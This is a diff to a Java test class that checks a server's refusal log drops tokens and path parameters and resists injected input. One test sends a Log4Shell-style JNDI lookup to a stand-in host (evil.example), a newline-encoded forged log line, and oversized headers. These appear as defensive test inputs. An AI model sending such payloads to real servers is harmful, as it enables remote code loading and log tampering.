@@ -219,20 +219,24 @@ final class RefusalLogTest {
     }
 
     @Test
-    void a_line_holds_no_query_and_no_path_parameter() {
+    void a_line_holds_no_query() {
         server.get("/admin/users?token=secret", PROGRAM);
-        server.get("/admin/users;jsessionid=secret?token=secret", PROGRAM);
 
-        assertFalse(lines.list.toString().contains("secret"), lines.list.toString());
+        assertEquals("401 GET /admin/users from 127.0.0.1: /admin/* needs a login", line());
     }
 
     @Test
     void what_a_client_sends_begins_no_line_and_fills_no_disk() {
-        server.get("/admin/%0a403%20GET%20/${jndi:ldap://evil.example/x}", PROGRAM);
+        assertEquals(
+                400,
+                server.get("/admin/%0a403%20GET%20/${jndi:ldap://evil.example/x}", PROGRAM)
+                        .status());
+        assertEquals(List.of(), lines.list, "what is no path is not refused but unreadable");
         server.get("/admin/" + "a".repeat(3000), PROGRAM);
         server.post("/open/x", "", PERSON, "Origin: https://\u00e9\u0085403 GET /");
         server.post("/open/x", "", PERSON, "Origin: https://" + "e".repeat(3000));
 
+        assertEquals(3, lines.list.size());
         for (ILoggingEvent line : lines.list) {
             String text = line.getFormattedMessage();
             assertTrue(text.length() < 600, () -> text.length() + " characters");
@@ -267,7 +271,7 @@ final class RefusalLogTest {
     }
 
     @Test
-    void who_comes_to_development_from_elsewhere_is_refused_in_one_line_and_sees_no_rule() {
+    void who_comes_to_development_from_elsewhere_is_refused_in_one_line_without_path_parameters_and_sees_no_rule() {
         Filter farAway = (request, response, chain) -> chain.doFilter(
                 new HttpServletRequestWrapper((HttpServletRequest) request) {
                     @Override
@@ -280,11 +284,11 @@ final class RefusalLogTest {
         try (WebServer seen = new WebServer()) {
             seen.context().addFilter(new FilterHolder(farAway), "/*", EnumSet.of(DispatcherType.REQUEST));
             seen.context().addFilter(new FilterHolder(ours), "/*", EnumSet.allOf(DispatcherType.class));
-            Reply page = seen.start().get("/", PERSON);
+            Reply page = seen.start().get("/page;jsessionid=secret?token=secret", PERSON);
 
             assertEquals(403, page.status());
             assertFalse(page.body().contains("this machine alone"), page.body());
         }
-        assertEquals("403 GET / from 203.0.113.7: development mode serves this machine alone", line());
+        assertEquals("403 GET /page from 203.0.113.7: development mode serves this machine alone", line());
     }
 }
